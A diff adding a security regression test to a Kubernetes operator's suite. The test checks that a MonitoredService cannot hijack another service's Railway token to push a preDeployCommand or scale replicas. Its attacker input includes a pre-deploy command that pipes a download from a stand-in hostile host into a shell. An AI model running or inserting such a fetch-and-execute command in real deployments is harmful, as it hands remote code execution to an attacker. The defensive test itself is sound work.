@@ -758,3 +758,60 @@ def test_an_externalname_service_of_ones_own_namespace_reaches_no_other_namespac
     finally:
         egress.configure_cluster(policy.ClusterNetworks())
     assert outcome != "bank's data", "shop reached bank's Service through an ExternalName Service of its own"
+
+
+# -- 15. A MonitoredService borrows another's Railway token by naming the same Railway service ----
+# operator/railway.py groups the MonitoredServices of a namespace by Railway service (environment
+# and service ids) and keeps the first one's binding: its endpoint and its token Secret. Admission
+# checks a MonitoredService's author against the Secret *it* names. So a namespace user who may
+# write MonitoredServices but not read the Railway token names the same service with a Secret of
+# their own (any value) and a preDeployCommand: the watcher sends that command to Railway with the
+# first service's token (a command run at every deploy, with the service's variables). The same
+# binding scales and rolls back through the second service.
+
+def test_a_monitored_service_never_acts_on_railway_with_a_token_its_author_did_not_name(railway) -> None:  # noqa: ANN001
+    from controller.operator import loop
+    from controller.operator import railway as railway_module
+    from controller.operator import view as view_module
+
+    class Api:
+        def secret_value(self, namespace: str, name: str, key: str) -> str | None:
+            return {"railway-token": "t0ken", "my-own": "not-a-railway-token"}.get(name)
+
+        def create_event(self, *args: typing.Any) -> None:
+            return None
+
+    def service(name: str, secret: str, **config: typing.Any) -> dict[str, typing.Any]:
+        return {"apiVersion": GROUP, "kind": "MonitoredService",
+                "metadata": {"namespace": "shop", "name": name, "generation": 1, "uid": f"uid-{name}",
+                             "resourceVersion": "1"},
+                "spec": {"target": {"railway": {"projectId": "p", "environmentId": "env-1", "serviceId": "svc-1",
+                                                "tokenSecretRef": {"name": secret, "key": "t"},
+                                                "endpoint": railway.url, **config}}}}
+
+    view = view_module.View()
+    evaluator = loop.Evaluator(view, Api(), 60.0, 4)  # type: ignore[arg-type]
+    watcher = railway_module.RailwayWatcher(view, evaluator, Api(), railway.url, allow_loopback=True,  # type: ignore[arg-type]
+                                            leading=lambda: True)
+
+    scaled: list[str] = []
+
+    async def scenario() -> None:
+        view.upsert(service("api", "railway-token"))  # the owner's: the token, no configuration managed
+        view.upsert(service("mine", "my-own", preDeployCommand=["sh", "-c", "curl -s https://evil.example | sh"]))
+        await watcher.poll()
+        await watcher.poll()
+        try:  # a ScalingPolicy through "mine" scales with the binding of its Railway service
+            await watcher.set_replicas("shop", "env-1/svc-1", 4)
+            scaled.append("scaled")
+        except Exception as error:  # noqa: BLE001 -- the refusal is the outcome
+            scaled.append(str(error))
+        await watcher.close()
+
+    asyncio.run(scenario())
+    assert railway.services["svc-1"].pre_deploy_command is None, (
+        f"Railway runs {railway.services['svc-1'].pre_deploy_command} at each deploy: sent with a token whose Secret "
+        "the MonitoredService that asked for it does not name")
+    assert railway.services["svc-1"].replicas == 1 and scaled != ["scaled"], scaled
+    said = view.world.platform_errors.get(("shop", railway_module.RAILWAY, "env-1/svc-1"))
+    assert said is not None and "different endpoints or token Secrets" in said and "api, mine" in said, said
